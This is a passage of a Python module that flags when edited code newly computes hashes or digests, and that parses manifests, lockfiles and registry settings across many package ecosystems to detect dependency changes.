    return _EXT_FAMILY.get(ext, "code")


def _rule_triggers() -> Tuple[Tuple[str, ...], Dict[str, List[frozenset]]]:
    """Every trigger (once) and each table's triggers as sets, built on first use."""
    cached = _RULE_RX.get("triggers")
    if cached is None:
        every = set(_HASH_LITERAL_TRIGGERS)
        tables: Dict[str, List[frozenset]] = {}
        for name, table in (("any", _HASH_RULES), ("php", _HASH_PHP_RULES),
                            ("sh", _HASH_SH_RULES)):
            tables[name] = [frozenset(triggers) for triggers, _ in table]
            for triggers, _ in table:
                every.update(triggers)
        cached = _RULE_RX["triggers"] = (tuple(every), tables)
    return cached


def _run_rules(low: str, present: set, table: str,
               rules: Tuple[Tuple[Tuple[str, ...], str], ...], hits: Dict[str, int],
               first: bool) -> None:
    """Add every rule's normalised matches to hits (with `first`, stop at one):
    a rule compiles only when one of its triggers occurs."""
    sets = _rule_triggers()[1][table]
    for k, (_, pattern) in enumerate(rules):
        if first and hits:
            return
        if present.isdisjoint(sets[k]):
            continue
        rx = _RULE_RX.get((table, k))
        if rx is None:
            import re   # loaded by json already: a dict lookup
            rx = _RULE_RX[(table, k)] = re.compile(pattern, re.MULTILINE)
        for m in rx.finditer(low):
            if table == "sh" and m.start() and low[m.start() - 1] not in _SH_WORD_LEAD:
                continue   # part of a longer word (`xsha256sum`, `my_cksum`)
            raw = m.group(0)
            hit = _HIT_SPELLING.get(raw)
            if hit is None:
                hit = "".join(raw.split()).strip("\"'`;&|({=$!%")
                if len(_HIT_SPELLING) < 4096:
                    _HIT_SPELLING[raw] = hit
            if hit not in _HASH_NOT_HITS:
                hits[hit] = hits.get(hit, 0) + 1
                if first:
                    return


_HIT_SPELLING: Dict[str, str] = {}


def _hash_hits(text: str, family: str, first: bool = False) -> Dict[str, int]:
    """Normalised matches of every rule that applies to `family`, with their counts;
    with `first`, only whether there is one."""
    if not text:
        return {}
    low = text.lower()
    present = {t for t in _rule_triggers()[0] if t in low}
    hits: Dict[str, int] = {}
    if not present:
        return hits
    if family != "scripts":   # a JSON manifest: only the commands of its scripts
        _run_rules(low, present, "any", _HASH_RULES, hits, first)
        if not (first and hits) and not present.isdisjoint(_HASH_LITERAL_TRIGGERS):
            call = _an_rx("hash-literal-call", _HASH_LITERAL_CALL)
            for m in _an_rx("hash-literal", _HASH_LITERAL_RX).finditer(low):
                head = low[max(0, m.start() - 200):m.start()]
                found = call.search(head)
                if found:
                    hit = "".join((found.group(0) + m.group(0)).split())
                    hits[hit] = hits.get(hit, 0) + 1
    if family == "php" and not (first and hits):
        _run_rules(low, present, "php", _HASH_PHP_RULES, hits, first)
    if family in ("sh", "nb", "?", "scripts") and not (first and hits):
        _run_rules(low, present, "sh", _HASH_SH_RULES, hits, first)
        if "certutil" in low and "hashfile" in low:
            # certutil ... -hashfile on one line; plain string tests keep this linear.
            for line in low.splitlines():
                if "certutil" in line and "hashfile" in line.split("certutil", 1)[1]:
                    hits["certutil-hashfile"] = hits.get("certutil-hashfile", 0) + 1
    return hits


# ---- Python, read with ast --------------------------------------------------

_PY_DYNAMIC = ("getattr", "exec", "eval", " as ")
_PY_MAX_AST = 128 * 1024   # larger texts are read by the token rules only


def _py_dedent(text: str) -> str:
    """An edited fragment is often indented as a whole: strip the common indent."""
    lines = [ln for ln in text.splitlines() if ln.strip()]
    if not lines:
        return text
    pad = min(len(ln) - len(ln.lstrip(" \t")) for ln in lines)
    if not pad:
        return text
    return "\n".join(ln[pad:] if ln.strip() else "" for ln in text.splitlines())


def _py_code_only(text: str) -> str:
    """Python text with comments and triple-quoted strings blanked, cheaply.  It
    may blank code too (a `#` inside a string): it only ever serves to say yes
    sooner; whatever it leaves in doubt is decided by the parse."""
    out = []
    state: Optional[str] = None
    for line in text.split("\n"):
        buf = []
        i, n = 0, len(line)
        while i < n:
            if state is not None:
                j = line.find(state, i)
                if j < 0:
                    break
                i, state = j + 3, None
                continue
            marks = [(k, m) for m, k in (("#", line.find("#", i)), ('"""', line.find('"""', i)),
                                         ("'''", line.find("'''", i))) if k >= 0]
            if not marks:
                buf.append(line[i:])
                break
            k, mark = min(marks)
            buf.append(line[i:k])
            if mark == "#":
                break
            i, state = k + 3, mark
        out.append("".join(buf))
    return "\n".join(out)


def _py_parse(text: str) -> Any:
    """The ast of Python text, or None when it does not parse (tokens then decide)."""
    if len(text) > _PY_MAX_AST:
        return None
    import ast   # only here: a few ms, paid by texts that may hold hashing
    for candidate in (text, _py_dedent(text)):
        try:
            return ast.parse(candidate)
        except (SyntaxError, ValueError, RecursionError, MemoryError):
            continue
    return None


def _py_const_str(node: Any, depth: int = 0) -> Optional[str]:
    """The value of a string expression built from literals ("hash" + "lib", f"{'sha'}256")."""
    import ast
    if depth > 20:
        return None
    if isinstance(node, ast.Constant) and isinstance(node.value, str):
        return node.value
    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add):
        left = _py_const_str(node.left, depth + 1)
        right = _py_const_str(node.right, depth + 1)
        return left + right if left is not None and right is not None else None
    if isinstance(node, ast.JoinedStr):
        parts = []
        for value in node.values:
            inner = value.value if isinstance(value, ast.FormattedValue) else value
            part = _py_const_str(inner, depth + 1)
            if part is None:
                return None
            parts.append(part)
        return "".join(parts)
    return None


def _py_dotted(node: Any, aliases: Dict[str, str]) -> Optional[str]:
    """`h.sha256` -> `hashlib.sha256` through the aliases; None for other shapes."""
    import ast
    if isinstance(node, ast.Name):
        return aliases.get(node.id, node.id)
    if isinstance(node, ast.Attribute):
        base = _py_dotted(node.value, aliases)
        return base + "." + node.attr if base is not None else None
    if isinstance(node, ast.Call) and node.args:
        fn = _py_dotted(node.func, aliases)
        arg = _py_const_str(node.args[0])
        if fn in ("__import__", "importlib.import_module", "import_module") and arg:
            return arg
        if fn in ("getattr", "builtins.getattr") and len(node.args) >= 2:
            base = _py_dotted(node.args[0], aliases)
            name = _py_const_str(node.args[1])
            if base is not None and name is not None:
                return base + "." + name
    if isinstance(node, ast.Subscript):
        # sys.modules["hashlib"]
        base = _py_dotted(node.value, aliases)
        key = _py_const_str(node.slice)
        if base in ("sys.modules",) and key:
            return key
    return None


def _py_hash_text(tree: Any) -> str:
    """The code of a parsed Python text as the token rules should see it: no comments
    or docstrings, every alias and dynamic lookup spelled out (`h.new` ->
    `hashlib.new`, `__import__("hash"+"lib")` -> `hashlib`)."""
    import ast
    aliases: Dict[str, str] = {}
    assigns: List[Tuple[str, Any]] = []
    pieces: List[Any] = []
    prose = set()
    for node in ast.walk(tree):
        kind = type(node)
        if kind is ast.Import:
            for a in node.names:
                if a.asname:
                    aliases[a.asname] = a.name
            pieces.append(node)
        elif kind is ast.ImportFrom:
            for a in node.names:
                if node.module:
                    aliases[a.asname or a.name] = node.module + "." + a.name
            pieces.append(node)
        elif kind in (ast.Assign, ast.AnnAssign, ast.NamedExpr):
            targets = node.targets if kind is ast.Assign else [node.target]
            for t in targets:
                if type(t) is ast.Name and node.value is not None:
                    assigns.append((t.id, node.value))
        elif kind is ast.Expr and type(node.value) is ast.Constant:
            prose.add(id(node.value))   # a docstring or a bare string: prose
        elif kind in (ast.Call, ast.Attribute, ast.Subscript, ast.Name, ast.Constant, ast.List,
                      ast.Tuple):
            pieces.append(node)
    for _ in range(4):   # `a = hashlib; b = a; c = b.sha256` settles in a few rounds
        changed = False
        for name, value in assigns:
            dotted = _py_dotted(value, aliases)
            if dotted and dotted != name and aliases.get(name) != dotted:
                aliases[name] = dotted
                changed = True
        if not changed:
            break
    out: List[str] = []
    for node in pieces:
        kind = type(node)
        if kind is ast.Import:
            out.append("import " + ", ".join(a.name for a in node.names))
        elif kind is ast.ImportFrom:
            out.append("from %s import %s" % (node.module, ", ".join(a.name for a in node.names)))
        elif kind is ast.Call:
            fn = _py_dotted(node.func, aliases)
            args = []
            for a in node.args[:3]:
                value = _py_const_str(a)
                args.append(repr(value) if value is not None else _py_dotted(a, aliases) or "_")
            out.append("%s(%s)" % (fn or "_", ", ".join(args)))
        elif kind is ast.Name:
            if node.id in aliases:
                out.append(aliases[node.id] + " ")
        elif kind is ast.Constant:
            if isinstance(node.value, str) and id(node) not in prose:
                out.append(repr(node.value))
        elif kind in (ast.List, ast.Tuple):
            # An argv list, `["git", "hash-object", p]`, read as one command.
            items = [_py_const_str(e) for e in node.elts[:8]]
            out.append("[%s]" % ", ".join(repr(i) if i is not None else "_" for i in items))
        else:
            dotted = _py_dotted(node, aliases)
            if dotted:
                out.append(dotted + " ")
    return "\n".join(out)


def _merge_hits(into: Dict[str, int], more: Dict[str, int]) -> Dict[str, int]:
    for hit, count in more.items():
        into[hit] = into.get(hit, 0) + count
    return into


def _code_hash_hits(text: str, family: str, first: bool = False) -> Dict[str, int]:
    """Hash evidence in one code text of the given family (with `first`: whether any)."""
    if family == "nb":
        return _notebook_hash_hits(text)
    hits = _hash_hits(text, family, first)
    if family != "py":
        return hits
    if len(text) > _PY_MAX_AST:
        return hits   # too long to parse: the tokens decide
    if hits:
        sure = _hash_hits(_py_code_only(text), "py", first)
        if sure:
            return sure   # hashing in code for sure: no need to parse
    if not hits:
        # Nothing by tokens: only a dynamic import or lookup can still hide a digest.
        low = text.lower()
        if not any(t in low for t in ("__import__", "import_module", "sys.modules")) and not (
                any(t in low for t in _PY_DYNAMIC)
                and any(t in low for t in _HASH_ALGS + ("hash", "digest", "crypt"))):
            return hits
    tree = _py_parse(text)
    if tree is None:
        return hits
    return _hash_hits(_py_hash_text(tree), "py")


def _notebook_hash_hits(text: str) -> Dict[str, int]:
    """A notebook: every code cell, in whatever language it is written; shell
    escapes (`!cmd`, `%%bash`) as commands.  Markdown cells are prose."""
    try:
        doc = json.loads(text)
    except ValueError:
        doc = None
    if not isinstance(doc, dict) or not isinstance(doc.get("cells"), list):
        # One cell's source (NotebookEdit) or a fragment of the JSON.
        return _cell_hash_hits(text)
    hits: Dict[str, int] = {}
    for cell in doc["cells"]:
        if not isinstance(cell, dict) or cell.get("cell_type") not in ("code", None):
            continue
        source = cell.get("source")
        if isinstance(source, list):
            source = "".join(s for s in source if isinstance(s, str))
        if isinstance(source, str):
            _merge_hits(hits, _cell_hash_hits(source))
    return hits


def _cell_hash_hits(source: str) -> Dict[str, int]:
    shell = []
    code = []
    magic_cell = source.lstrip().startswith(("%%bash", "%%sh", "%%script", "%%system",
                                             "%%powershell", "%%cmd"))
    for line in source.splitlines():
        stripped = line.lstrip()
        if magic_cell or stripped.startswith(("!", "%")):
            shell.append(stripped.lstrip("!%"))
            code.append("")
        else:
            code.append(line)
    hits = _hash_hits("\n".join(shell), "sh") if shell else {}
    return _merge_hits(hits, _code_hash_hits("\n".join(code), "py"))


def hash_intent_in_text(added_text: str, path: Optional[str] = None, *,
                        removed_text: Optional[str] = None) -> bool:
    """True when code added to `path` computes a hash or digest.

    Every code file is read with the rules of every language; prose and
    data files (.md, .txt, .json, ...) are not read.  With `removed_text`
    (an Edit's old string, a patch's '-' lines) a call that was already
    there and is only kept is not new intent.
    """
    if not isinstance(added_text, str) or not added_text:
        return False
    family = _hash_family(path)
    if family is None:
        return False
    if family == "?" and added_text.startswith("#!") and "python" in added_text[:80]:
        family = "py"
    hits = _code_hash_hits(added_text, family, first=not removed_text)
    if not hits:
        return False
    if not removed_text:
        return True
    before = _code_hash_hits(removed_text, family)
    return any(count > before.get(hit, 0) for hit, count in hits.items())


# ---- dependency intent ------------------------------------------------------

# Manifests by file name: each ecosystem's list.  A lockfile ("lock") pins the
# exact code that is installed, and registry settings ("registry") say where
# it comes from: a change of either brings in other code too.
_MANIFEST_NAMES = {
    "package.json": "npm", "deno.json": "npm", "deno.jsonc": "npm", "bower.json": "npm",
    "composer.json": "composer", "pyproject.toml": "pyproject", "pipfile": "pipfile",
    "setup.py": "setuppy", "setup.cfg": "setupcfg", "pixi.toml": "pixi",
    "environment.yml": "yaml", "environment.yaml": "yaml", "conda.yml": "yaml",
    "conda.yaml": "yaml", "cargo.toml": "cargo", "go.mod": "gomod", "go.work": "gomod",
    "gemfile": "gemfile", "gems.rb": "gemfile", "podfile": "podfile", "brewfile": "brewfile",
    "cartfile": "cartfile", "cartfile.private": "cartfile", "directory.packages.props": "csproj",
    "directory.build.props": "csproj", "packages.config": "csproj", "nuget.config": "csproj",
    "paket.dependencies": "paket", "pom.xml": "maven", "build.gradle": "gradle",
    "build.gradle.kts": "gradle", "settings.gradle": "gradle", "settings.gradle.kts": "gradle",
    "libs.versions.toml": "gradlecat", "build.sbt": "sbt", "plugins.sbt": "sbt",
    "vcpkg.json": "generic", "vcpkg-configuration.json": "generic", "conanfile.txt": "conan",
    "conanfile.py": "conan", "description": "rdesc", "project.toml": "julia",
    "juliaproject.toml": "julia", "cabal.project": "cabal", "package.yaml": "yaml",
    "stack.yaml": "yaml", "deps.edn": "edn", "bb.edn": "edn", "shadow-cljs.edn": "edn",
    "project.clj": "lein", "mix.exs": "mix", "rebar.config": "rebar", "pubspec.yaml": "yaml",
    "package.swift": "swiftpm", "dune-project": "opam", "opam": "opam", "dune": "dune",
    "shard.yml": "yaml", "build.zig.zon": "zon", "flake.nix": "nix", "shell.nix": "nix",
    "default.nix": "nix", "chart.yaml": "yaml", "requirements.yml": "yaml",
    # lockfiles
    "package-lock.json": "lock", "npm-shrinkwrap.json": "lock", "yarn.lock": "lock",
    "pnpm-lock.yaml": "lock", "bun.lock": "lock", "bun.lockb": "lock", "deno.lock": "lock",
    "composer.lock": "lock", "poetry.lock": "lock", "pipfile.lock": "lock", "uv.lock": "lock",
    "pdm.lock": "lock", "pixi.lock": "lock", "conda-lock.yml": "lock", "cargo.lock": "lock",
    "go.sum": "lock", "go.work.sum": "lock", "gemfile.lock": "lock", "gems.locked": "lock",
    "podfile.lock": "lock", "cartfile.resolved": "lock", "package.resolved": "lock",
    "packages.lock.json": "lock", "paket.lock": "lock", "gradle.lockfile": "lock",
    "conan.lock": "lock", "renv.lock": "lock", "manifest.toml": "lock",
    "juliamanifest.toml": "lock", "cabal.project.freeze": "lock", "stack.yaml.lock": "lock",
    "mix.lock": "lock", "rebar.lock": "lock", "pubspec.lock": "lock", "shard.lock": "lock",
    "nimble.lock": "lock", "flake.lock": "lock", "vcpkg-lock.json": "lock",
    # where packages come from
    ".npmrc": "registry", ".yarnrc": "registry", ".yarnrc.yml": "registry",
    ".pnpmfile.cjs": "registry", "pip.conf": "registry", "pip.ini": "registry",
    ".pypirc": "registry", "bunfig.toml": "registry", ".condarc": "registry",
    "settings.xml": "registry",
}
_MANIFEST_SUFFIXES = (
    ((".csproj", ".fsproj", ".vbproj", ".nuspec", ".props"), "csproj"),
    ((".gemspec",), "gemspec"), ((".cabal",), "cabal"), ((".opam",), "opam"),
    ((".nimble",), "nimble"), ((".sbt",), "sbt"), ((".gradle", ".gradle.kts"), "gradle"),
)


def manifest_kind(path: Optional[str]) -> Optional[str]:
    """The manifest family of a path, by its final component (case-insensitive)."""
    if not isinstance(path, str) or not path:
        return None
    norm = path.replace("\\", "/").rstrip("/")
    base = norm.rsplit("/", 1)[-1].lower()
    parent = norm.rsplit("/", 2)[-2].lower() if norm.count("/") >= 1 else ""
    if base in _MANIFEST_NAMES:
        if base == "settings.xml" and parent != ".m2":
            return None   # Maven's user settings only
        if base == "description" and not norm.endswith("DESCRIPTION"):
            return None   # R's DESCRIPTION, not .git/description
        return _MANIFEST_NAMES[base]
    if base == "config.toml" and parent == ".cargo" or base == "config" and parent == ".cargo":
        return "registry"   # source replacement, registries
    for suffixes, kind in _MANIFEST_SUFFIXES:
        if base.endswith(suffixes):
            return kind
    if base.endswith((".txt", ".in")) and ("requirements" in base or "constraints" in base
                                           or parent == "requirements"):
        return "requirements"
    if base.startswith(("environment", "requirements")) and base.endswith((".yml", ".yaml")):
        return "yaml"   # environment-dev.yml, requirements.yml (Ansible roles)
    return None


_NPM_FIELDS = ("dependencies", "devDependencies", "optionalDependencies", "peerDependencies",
               "bundleDependencies", "bundledDependencies", "require", "require-dev", "imports")
_NPM_SOURCE_FIELDS = ("overrides", "resolutions", "repositories", "pnpm", "patchedDependencies")
_NPM_META = frozenset(("name", "version", "description", "main", "module", "types", "typings",
                       "license", "author", "private", "type", "homepage", "engines", "scripts",
                       "keywords", "files", "bin", "repository", "bugs", "packageManager",
                       "exports", "browser", "sideEffects", "workspaces", "funding",
                       "minimum-stability", "prefer-stable", "config", "extra", "autoload",
                       "autoload-dev", "node", "npm", "php", "lockfileVersion", "tasks"))


def _spec(text: str) -> str:
    """A version or source spec compared without blanks or case."""
    return "".join(text.split()).lower()


def _pep503(name: str) -> str:
    out = []
    prev_sep = False
    for ch in name.lower():
        if ch in "-_.":
            if not prev_sep:
                out.append("-")
            prev_sep = True
        else:
            out.append(ch)
            prev_sep = False
    return "".join(out)


def _json_deps(doc: Any) -> Dict[Tuple[str, str], str]:
    keys: Dict[Tuple[str, str], str] = {}
    if not isinstance(doc, dict):
        return keys
    for fld in _NPM_FIELDS:
        block = doc.get(fld)
        if isinstance(block, dict):
            for name, spec in block.items():
                keys[(fld, str(name))] = json.dumps(spec, sort_keys=True)
        elif isinstance(block, list):
            for name in block:
                keys[(fld, str(name))] = ""
    for fld in _NPM_SOURCE_FIELDS:
        block = doc.get(fld)
        if block is not None:
            # Any change here redirects where packages come from.
            keys[("source", fld)] = json.dumps(block, sort_keys=True)
    return keys


def _json_fragment_deps(text: str) -> Dict[Tuple[str, str], str]:
    """Key/value pairs of a JSON fragment, scoped by the nearest enclosing field."""
    keys: Dict[Tuple[str, str], str] = {}
    stack: List[str] = []
    pending = ""
    for m in _an_rx("jsonfrag", r'"((?:[^"\\\n]|\\.)*)"\s*:\s*("(?:[^"\\\n]|\\.)*"|\{|\[)|[{}\[\]]'
                 ).finditer(text):
        tok = m.group(0)
        if m.group(1) is None:
            if tok in "{[":
                stack.append(pending)
                pending = ""
            elif stack:
                stack.pop()
            continue
        key, value = m.group(1), m.group(2)
        if value in ("{", "["):
            stack.append(key)
            continue
        scope = stack[-1] if stack else ""
        if scope in _NPM_FIELDS:
            keys[(scope, key)] = value
        elif scope in _NPM_SOURCE_FIELDS or any(s in _NPM_SOURCE_FIELDS for s in stack):
            keys[("source", key)] = value
        elif scope == "" and key not in _NPM_META and _an_rx(
                "verlike", r'"\s*([\^~<>=*]|\d|latest|next|workspace:|npm:|git|github:|file:|'
                           r'link:|https?:|dev-|v\d)').match(value):
            keys[("?", key)] = value
    return keys


def _npm_keys(text: str) -> Dict[Tuple[str, str], str]:
    try:
        doc = json.loads(text)
    except ValueError:
        return _json_fragment_deps(text)
    if isinstance(doc, dict) and any(k in doc for k in _NPM_FIELDS + _NPM_SOURCE_FIELDS):
        return _json_deps(doc)
    return _json_fragment_deps(text)


def _req_name(item: str) -> Optional[str]:
    """The normalised name of a PEP 508 requirement string, or None."""
    m = _an_rx("pep508", r"\s*([A-Za-z0-9][A-Za-z0-9._-]*)\s*(\[[^\]]*\])?\s*(.*)$").match(item)
    if not m:
        return None
    rest = m.group(3).strip()
    if rest and rest[0] not in "<>=!~@;(,":
        return None
    return _pep503(m.group(1))


def _req_keys(text: str) -> Dict[Tuple[str, str], str]:
    keys: Dict[Tuple[str, str], str] = {}
    for raw in text.replace("\\\n", " ").splitlines():
        line = raw.split(" #", 1)[0].strip()
        if not line or line.startswith("#"):
            continue
        if line.startswith("-") or "://" in line or line.startswith((".", "/")):
            keys[("source", " ".join(line.split()))] = ""
            continue
        name = _req_name(line)
        if name:
            keys[("req", name)] = _spec(line)
    return keys


_TOML_META = frozenset((
    "name", "version", "edition", "authors", "description", "license", "license-file",
    "repository", "homepage", "readme", "keywords", "categories", "rust-version", "publish",
    "build", "workspace", "resolver", "members", "exclude", "default-run", "documentation",
    "include", "links", "requires-python", "classifiers", "dynamic", "scripts", "urls",
    "maintainers", "packages", "python", "go", "module", "toolchain", "source", "url",
    "verify_ssl", "python_version", "build-backend", "backend-path", "entry-points",
    "gui-scripts", "line-length", "target-version", "select", "ignore", "testpaths",
    "addopts", "strict", "autobins", "autoexamples", "autotests", "autobenches",
    "package-mode", "requires", "uuid",
))


def _toml_scope(section: str, kind: str) -> Optional[str]:
    """Dependency scope of a TOML section, 'source' for registry/patch tables, else None."""
    parts = [p.strip().strip("\"'") for p in section.split(".")]
    low = [p.lower() for p in parts]
    if kind == "cargo":
        if low and low[0] in ("patch", "replace", "registries", "source"):
            return "source"
        for k, p in enumerate(low):
            if p in ("dependencies", "dev-dependencies", "build-dependencies"):
                return ".".join(low[:k + 1])
        return None
    if kind == "pipfile":
        if low and low[0] == "source":
            return "source"
        return low[0] if low and low[0] in ("packages", "dev-packages") else None
    if kind == "pixi":
        if any("dependencies" in p for p in low):
            return ".".join(low)
        return "pixi-project" if low[:1] in (["project"], ["workspace"]) else None
    if kind == "julia":
        return low[0] if low and low[0] in ("deps", "compat", "extras", "weakdeps", "sources",
                                            "targets") else None
    if kind == "gradlecat":
        return low[0] if low and low[0] in ("versions", "libraries", "plugins", "bundles") \
            else None
    # pyproject
    if low[:2] == ["tool", "uv"] and len(low) > 2 and low[2] in ("sources", "index"):
        return "source"
    if low[:2] == ["tool", "poetry"] and len(low) > 2 and low[2] == "source":
        return "source"
    if low and low[0] in ("dependency-groups",):
        return "dependency-groups"
    if low[:1] == ["build-system"]:
        return "build-system"
    for p in low:
        if p in ("dependencies", "dev-dependencies", "optional-dependencies",
                 "dependency-groups"):
            return ".".join(low)
    if low[:1] == ["project"] or low[:2] == ["tool", "uv"] or low[:2] == ["tool", "pdm"]:
        return ".".join(low)
    return None


def _toml_keys(text: str, kind: str) -> Dict[Tuple[str, str], str]:
    """Declared dependencies of a TOML manifest or fragment, by a line grammar."""
    keys: Dict[Tuple[str, str], str] = {}
    section: Optional[str] = None      # None: before any header (fragment mode)
    scope: Optional[str] = None
    array_key: Optional[str] = None    # inside a multi-line array
    for raw in text.splitlines():
        line = raw.split("#", 1)[0].strip() if "#" in raw and '"' not in raw.split("#", 1)[0] \
            else raw.strip()
        if not line or line.startswith("#"):
            continue
        if array_key is not None:
            if line.startswith("]"):
                array_key = None
                continue
            for item in _an_rx("tomlstr", r'"([^"\n]*)"|\'([^\'\n]*)\'').findall(line):
                _toml_item(keys, scope, array_key, item[0] or item[1], section is None)
            if line.endswith("]"):
                array_key = None
            continue
        if line.startswith("["):
            section = line.strip("[] ")
            scope = _toml_scope(section, kind)
            if scope == "source":
                keys[("source", section)] = ""
            elif scope is not None and kind == "cargo" and not section.lower().endswith(
                    ("dependencies", "dev-dependencies", "build-dependencies")):
                # [dependencies.serde]: the header names the dependency.
                keys[(scope, section.rsplit(".", 1)[-1].strip("\"' "))] = ""
            elif scope is not None:
                keys[("section", section.replace(" ", ""))] = ""
            continue
        key, eq, value = line.partition("=")
        if not eq:
            if section is None or scope is not None:
                for item in _an_rx("tomlstr", r'"([^"\n]*)"|\'([^\'\n]*)\'').findall(line):
                    _toml_item(keys, scope, "", item[0] or item[1], section is None)
            continue
        key = key.strip().strip("\"'")
        value = value.strip()
        base_key = key.split(".", 1)[0].strip("\"' ")
        if scope == "source":
            keys[("source", section or "" + key)] = value
            continue
        if value.startswith("[") and not value.endswith("]"):
            array_key = key
            for item in _an_rx("tomlstr", r'"([^"\n]*)"|\'([^\'\n]*)\'').findall(value):
                _toml_item(keys, scope, key, item[0] or item[1], section is None)
            continue
        if value.startswith("["):
            for item in _an_rx("tomlstr", r'"([^"\n]*)"|\'([^\'\n]*)\'').findall(value):
                _toml_item(keys, scope, key, item[0] or item[1], section is None)
            continue
        _toml_entry(keys, kind, section, scope, base_key, key, value)
    return keys


def _toml_item(keys: Dict[Tuple[str, str], str], scope: Optional[str], array_key: str,
               item: str, fragment: bool) -> None:
    """One string in a TOML array: a PEP 508 requirement when the array holds dependencies."""
    low = array_key.lower()
    if scope is None and not fragment:
        return
    if low in ("classifiers", "keywords", "authors", "maintainers", "include", "exclude",
               "members", "packages", "license-files", "dynamic", "categories", "features",
               "default-features", "testpaths", "select", "ignore", "platforms"):
        return
    if scope == "build-system" and low != "requires":
        return
    if scope is not None and scope.startswith("project") and scope == "project" \
            and low not in ("dependencies",):
        return
    name = _req_name(item)
    if name:
        keys[((scope or "?") + ":" + low, name)] = _spec(item)
    elif "/" in item or "://" in item:
        keys[("source", item)] = ""


def _toml_entry(keys: Dict[Tuple[str, str], str], kind: str, section: Optional[str],
                scope: Optional[str], base_key: str, key: str, value: str) -> None:
    low = base_key.lower()
    if section is None:
        # Fragment mode: a `name = spec` line counts unless it is well-known metadata.
        if low in _TOML_META:
            return
        if value.startswith("{") or _an_rx("tomlver", r'["\'][\^~<>=*]|["\']\d|["\']\*').match(value) \
                or (kind == "julia" and value.startswith('"')):
            keys[("?", _pep503(base_key) if kind != "cargo" else base_key.replace("_", "-"))] \
                = _spec(value)
            if any(s in value for s in ("git", "path", "registry", "url")):
                keys[("source", key + "=" + value)] = ""
        return
    if scope is None or scope in ("build-system", "project", "pixi-project"):
        return
    if scope.startswith(("project", "tool.uv", "tool.pdm")) and "dependencies" not in scope:
        return
    if low in ("python", "julia"):
        return   # the language version, not a package
    name = _pep503(base_key) if kind != "cargo" else base_key.replace("_", "-")
    previous = keys.get((scope, name), "")
    keys[(scope, name)] = previous + _spec(value) if "." in key else _spec(value)
    if any(s in value for s in ("git", "path", "registry", "url")):
        keys[("source", scope + ":" + key + "=" + " ".join(value.split()))] = ""


def _gomod_keys(text: str) -> Dict[Tuple[str, str], str]:
    keys: Dict[Tuple[str, str], str] = {}
    block = None
    for raw in text.splitlines():
        line = raw.split("//", 1)[0].strip()
        if not line:
            continue
        if block is not None:
            if line.startswith(")"):
                block = None
                continue
            _gomod_line(keys, block, line)
            continue
        word, _, rest = line.partition(" ")
        if word in ("require", "replace", "exclude", "retract", "tool", "godebug", "ignore", "use") \
                and rest.strip().startswith("("):
            block = word
            continue
        if word in ("require", "replace", "exclude", "tool", "use"):
            _gomod_line(keys, word, rest.strip())
        elif word not in ("module", "go", "toolchain", "retract", "godebug") and "/" in word:
            _gomod_line(keys, "?", line)
    return keys


def _gomod_line(keys: Dict[Tuple[str, str], str], block: str, line: str) -> None:
    parts = line.split()
    if not parts:
        return
    if block == "replace" or "=>" in parts:
        keys[("source", " ".join(parts))] = ""
    elif block in ("require", "?", "tool"):
        keys[("require", parts[0])] = _spec(" ".join(parts[1:2]))
    elif block == "use":
        keys[("use", parts[0])] = ""


def _gem_name(line: str) -> Optional[str]:
    """The name in `gem "x", ...` / `gem('x')`, parsed without a regex."""
    if not line.startswith("gem") or line[3:4] not in (" ", "\t", "("):
        return None
    rest = line[3:].lstrip(" \t(").lstrip()
    if rest[:1] not in ("'", '"'):
        return None
    end = rest.find(rest[0], 1)
    return rest[1:end].lower() if end > 1 else None


def _gemfile_keys(text: str) -> Dict[Tuple[str, str], str]:
    keys: Dict[Tuple[str, str], str] = {}
    for raw in text.splitlines():
        line = raw.split("#", 1)[0].strip()
        name = _gem_name(line)
        if name:
            keys[("gem", name)] = _spec(line.split(",", 1)[1]) if "," in line else ""
            if any(k in line for k in ("git:", "path:", "source:", "github:", ":git", ":path")):
                keys[("source", " ".join(line.split()))] = ""
        elif line.startswith(("source", "git_source", "gemspec")):
            keys[("source", " ".join(line.split()))] = ""
    return keys


_XML_DEP_TAGS = frozenset(("packagereference", "packageversion", "package", "projectreference",
                           "packagesource", "add"))
_XML_DEP_ATTRS = ("include", "id", "key")


def _xml_attr(low: str, attr: str) -> Optional[str]:
    """The value of attr="..." in a lower-cased tag body, without a regex."""
    k = low.find(attr + "=")
    while k > 0 and low[k - 1] not in " \t\n":
        k = low.find(attr + "=", k + 1)
    if k < 0:
        return None
    value = low[k + len(attr) + 1:].lstrip()
    if value[:1] in ('"', "'"):
        end_q = value.find(value[0], 1)
        if end_q > 0:
            return value[1:end_q]
    return None


def _csproj_keys(text: str) -> Dict[Tuple[str, str], str]:
    """PackageReference-style elements, scanned tag by tag (linear on any input).
    The value is the version (attribute or child <Version>) or the source URL."""
    keys: Dict[Tuple[str, str], str] = {}
    last: Optional[Tuple[str, str]] = None
    for chunk in text.split("<")[1:]:
        tag, _, body = chunk.partition(">")
        tag = tag[:2000]
        parts = tag.replace("\n", " ").replace("\t", " ").split(" ", 1)
        name = parts[0].strip().lower()
        if name in ("version", "versionoverride") and last is not None:
            keys[last] = _spec(body[:200])
            continue
        if name not in _XML_DEP_TAGS or len(parts) < 2 or "=" not in parts[1]:
            continue
        low = parts[1].lower()
        for attr in _XML_DEP_ATTRS + ("update",):
            found = _xml_attr(low, attr)
            if found is not None:
                last = (name, found)
                version = (_xml_attr(low, "version") or _xml_attr(low, "versionoverride")
                           or _xml_attr(low, "value") or "")
                keys[last] = _spec(version)
                break
    return keys


# ---- code that installs packages --------------------------------------------
#
# Inline code (`python3 -c`, a heredoc fed to node, ...) can run a package
# manager or write a manifest itself: `subprocess.run(["pip", "install",
# "x"])`, `install.packages("x")`, `open("requirements.txt", "a")`.

_DEP_CODE_TRIGGERS = ("install", "add", "require", "get", "inject", "bundler/inline",
                      "pip.main", "pip._internal", "gemfile")
_DEP_CODE_RX = (
    r"(?<![\w.\-])(?:pip[\d.]*|uv|npm|pnpm|yarn|bun|cargo|go|gem|bundle|composer|poetry|pdm"
    r"|pixi|rye|conda|mamba|micromamba|brew|apt|apt-get|dnf|yum|apk|zypper|dotnet|nuget|choco"
    r"|winget|scoop|cabal|stack|nimble|dart|flutter|pipx|vcpkg|conan|luarocks|cpanm|opam"
    r"|nix-env|port|spack)['\"]?(?:\s*,\s*['\"]?|\s+)(?:(?:-[\w\-]+|pip|global|pub|package|mod"
    r"|tool|self)['\"]?(?:\s*,\s*['\"]?|\s+)){0,3}(?:install|add|i|require|get|inject)['\"]?"
    r"(?:\s*,\s*['\"]?|\s+)(?![-'\"])[\w@./:]"
